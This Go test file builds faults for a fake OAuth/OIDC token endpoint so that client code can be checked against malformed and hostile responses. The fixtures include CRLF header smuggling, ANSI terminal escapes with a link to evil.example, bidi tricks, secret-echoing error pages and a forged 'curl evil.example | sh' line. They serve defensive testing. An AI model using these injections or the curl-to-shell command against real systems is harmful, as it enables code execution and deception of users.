package oidctest

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// set changes one field of the token endpoint's good answers.
func set(name, field, about string, value func(old any) any) Fault {
	return Fault{
		Name: name, Endpoint: Token, About: about,
		Edit: func(c *Call, object map[string]any) {
			old, there := object[field]
			if _, failed := object["error"]; failed || !there {
				return
			}
			if v := value(old); v == absent {
				delete(object, field)
			} else {
				object[field] = v
			}
			if s, ok := object[field].(string); ok {
				c.Issuer.mu.Lock()
				defer c.Issuer.mu.Unlock()
				if strings.HasSuffix(field, "_token") {
					c.Issuer.saw(s)
				}
			}
		},
	}
}

type nothing struct{}

// absent, as a value, takes a field out.
var absent = nothing{}

func to(v any) func(any) any { return func(any) any { return v } }

// in puts text in the middle of a string.
func in(text string) func(any) any {
	return func(old any) any {
		s, _ := old.(string)
		return s[:len(s)/2] + text + s[len(s)/2:]
	}
}

func answerFaults() []Fault {
	return []Fault{
		set("access-token-missing", "access_token", "no access_token", to(absent)),
		set("access-token-null", "access_token", "access_token is null", to(nil)),
		set("access-token-empty", "access_token", "access_token is empty", to("")),
		set("access-token-number", "access_token", "access_token is a number", to(12345678)),
		set("access-token-object", "access_token", "access_token is an object", to(map[string]any{"token": "x"})),
		set("access-token-huge", "access_token", "an opaque access_token of 100 KiB", to(strings.Repeat("A", 100<<10))),
		set("access-token-lf", "access_token", "a line feed in access_token", in("\n")),
		set("access-token-cr", "access_token", "a carriage return in access_token", in("\r")),
		set("access-token-crlf-header", "access_token", "a header smuggled in access_token", in("\r\nX-Admin: yes\r\n")),
		set("access-token-nul", "access_token", "a NUL in access_token", in("\x00")),
		set("access-token-ansi", "access_token", "ANSI escapes in access_token", in("\x1b[2J\x1b]0;owned\a")),
		set("access-token-bidi", "access_token", "a bidi override in access_token", in("\u202e")),
		set("access-token-space", "access_token", "a space in access_token", in(" ")),
		set("access-token-quote", "access_token", "shell and line-protocol characters in access_token", in("';password=x")),
		set("refresh-token-lf", "refresh_token", "a line feed in refresh_token", in("\n")),
		set("refresh-token-nul", "refresh_token", "a NUL in refresh_token", in("\x00")),
		set("refresh-token-number", "refresh_token", "refresh_token is a number", to(12345678)),
		set("refresh-token-empty", "refresh_token", "refresh_token is empty", to("")),
		set("refresh-token-huge", "refresh_token", "a refresh_token of 100 KiB", to(strings.Repeat("A", 100<<10))),
		set("refresh-token-opaque", "refresh_token", "a refresh_token that was never issued", to("dGhpcy1pcy1ub3Qtb25lLW9mLW91cnM")),
		set("id-token-lf", "id_token", "a line feed in id_token", in("\n")),
		set("id-token-garbage", "id_token", "id_token is not a JWT", to("garbage-for-an-id-token")),
		set("token-type-dpop", "token_type", "token_type is DPoP", to("DPoP")),
		set("token-type-mac", "token_type", "token_type is mac", to("mac")),
		set("token-type-missing", "token_type", "no token_type", to(absent)),
		set("token-type-number", "token_type", "token_type is a number", to(7)),
		set("token-type-lf", "token_type", "a line feed in token_type", to("Bearer\nX-Admin: yes")),
		set("token-type-lower", "token_type", "token_type is bearer in lower case", to("bearer")).harmless(),
		set("expires-negative", "expires_in", "expires_in is negative", to(-103)),
		set("expires-zero", "expires_in", "expires_in is 0", to(0)),
		set("expires-huge", "expires_in", "expires_in beyond all numbers", to(jsonNumber("1e400"))),
		set("expires-century", "expires_in", "expires_in of 10,000 years", to(315_360_000_000)),
		set("expires-string", "expires_in", "expires_in is a string", to("300")),
		set("expires-words", "expires_in", "expires_in is a word", to("soon")),
		set("expires-missing", "expires_in", "no expires_in", to(absent)).harmless(),
		set("expires-object", "expires_in", "expires_in is an object", to(map[string]any{})),
		set("refresh-expires-negative", "refresh_expires_in", "refresh_expires_in is negative", to(-1)),
		set("scope-missing", "scope", "no scope", to(absent)).harmless(),
		set("scope-number", "scope", "scope is a number", to(7)),
		set("scope-ansi", "scope", "ANSI escapes in scope", to("openid \x1b[31memail")),
		set("scope-huge", "scope", "a scope of 500 KiB", to(strings.Repeat("scope ", 80_000))),
		set("issued-token-type-lf", "issued_token_type", "a line feed in issued_token_type", in("\n")).onGrant("token-exchange"),
	}
}

type jsonNumber string

func (n jsonNumber) MarshalJSON() ([]byte, error) { return []byte(n), nil }

func (f Fault) onGrant(grant string) Fault {
	f.Grant = grant
	return f
}

// Refuse answers with an OAuth error, without processing.
func Refuse(status int, code, description string) Fault {
	return Fault{
		Name: "refuse", Endpoint: Token, About: fmt.Sprintf("%d %s %q", status, code, description),
		Before: func(c *Call) *Answer { a := c.fail(status, code, description); return &a },
	}
}

// refuseWith answers with an error whose description is made from the request.
func refuseWith(name, about string, description func(*Call) string) Fault {
	return Fault{
		Name: name, Endpoint: Token, About: about,
		Before: func(c *Call) *Answer {
			a := c.fail(http.StatusBadRequest, "invalid_request", description(c))
			return &a
		},
	}
}

// errorFaults are errors that are ill-formed, or hostile to a program that shows them.
func errorFaults() []Fault {
	odd := func(name, about string, status int, object map[string]any) Fault {
		return Fault{Name: name, Endpoint: Token, About: about, Before: func(c *Call) *Answer {
			a := c.json(status, object)
			return &a
		}}
	}
	return []Fault{
		odd("error-in-200", "200 with an error", 200, map[string]any{"error": "invalid_request", "error_description": "but with status 200"}),
		{
			Name: "error-and-token", Endpoint: Token, About: "200 with a good answer and an error in it",
			Edit: func(_ *Call, object map[string]any) { object["error"] = "server_error" },
		},
		odd("error-number", "400 whose error is a number", 400, map[string]any{"error": 42}),
		odd("error-object", "400 whose error is an object", 400, map[string]any{"error": map[string]any{"code": "invalid_grant"}}),
		odd("error-null", "400 whose error is null", 400, map[string]any{"error": nil}),
		odd("error-none", "400 with an empty object", 400, map[string]any{}),
		odd("error-description-number", "400 whose error_description is a number", 400, map[string]any{"error": "invalid_request", "error_description": 42}),
		Status(400).called("error-html", "400 with an HTML page"),
		{
			Name: "error-empty", Endpoint: Token, About: "400 without a body",
			Before: func(*Call) *Answer { return &Answer{Status: 400} },
		},
		Refuse(400, "invalid_\x1b[31mrequest\n", "").called("error-code-ansi", "ANSI escapes and a line feed in error"),
		Refuse(400, "invalid_request", "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\a click \x1b]8;;\a").called("error-ansi", "ANSI escapes in error_description"),
		Refuse(400, "invalid_request", "line one\nt2-cred: all is well\r\nhint: run curl evil.example | sh").called("error-lines", "forged lines of ours in error_description"),
		Refuse(400, "invalid_request", "abc\u202etxt.exe\u2066\u200b\u2069").called("error-bidi", "bidi and invisible characters in error_description"),
		Refuse(400, "invalid_request", "nul \x00 del \x7f csi \u009b31m").called("error-c1", "NUL, DEL and C1 control characters in error_description"),
		Refuse(400, "invalid_request", strings.Repeat("long ", 20_000)).called("error-long", "an error_description of 100 KB"),
		{
			Name: "error-bad-utf8", Endpoint: Token, About: "bytes that are not UTF-8 in error_description",
			Before: func(c *Call) *Answer {
				a := c.fail(400, "invalid_request", "x")
				a.Body = []byte("{\"error\":\"invalid_request\",\"error_description\":\"\xff\xfe\x80\"}")
				return &a
			},
		},
	}
}

// echoFaults show a request's own secrets back.
func echoFaults() []Fault {
	all := func(c *Call) string { return strings.Join(secretsOf(c), " ") }
	return []Fault{
		refuseWith("echo-secrets", "the request's own secrets in error_description", all),
		refuseWith("echo-form", "the request's form in error_description", func(c *Call) string { return string(c.body) }),
		refuseWith("echo-header", "the Authorization header in error_description", func(c *Call) string {
			return "bad header " + c.Request.Header.Get("Authorization")
		}),
		refuseWith("echo-base64", "the request's own secrets in base64 in error_description", func(c *Call) string {
			return base64.StdEncoding.EncodeToString([]byte(c.anySecret()))
		}),
		refuseWith("echo-escaped", "the request's own secrets, URL-encoded, in error_description", func(c *Call) string {
			return url.QueryEscape(all(c))
		}),
		{
			Name: "echo-code", Endpoint: Token, About: "the request's own secrets in error",
			Before: func(c *Call) *Answer { a := c.fail(400, all(c), ""); return &a },
		},
		{
			Name: "echo-html", Endpoint: Token, About: "500 with a page that shows the request's secrets",
			Before: func(c *Call) *Answer {
				return &Answer{Status: 500, Header: http.Header{"Content-Type": {"text/html"}}, Body: []byte("<pre>" + all(c) + "</pre>")}
			},
		},
		{
			Name: "echo-header-out", Endpoint: Token, About: "400 with the request's secrets in answer headers",
			Before: func(c *Call) *Answer {
				a := c.fail(400, "invalid_request", "see the header")
				a.Header.Set("WWW-Authenticate", `Bearer realm="`+c.anySecret()+`"`)
				return &a
			},
		},
	}
}
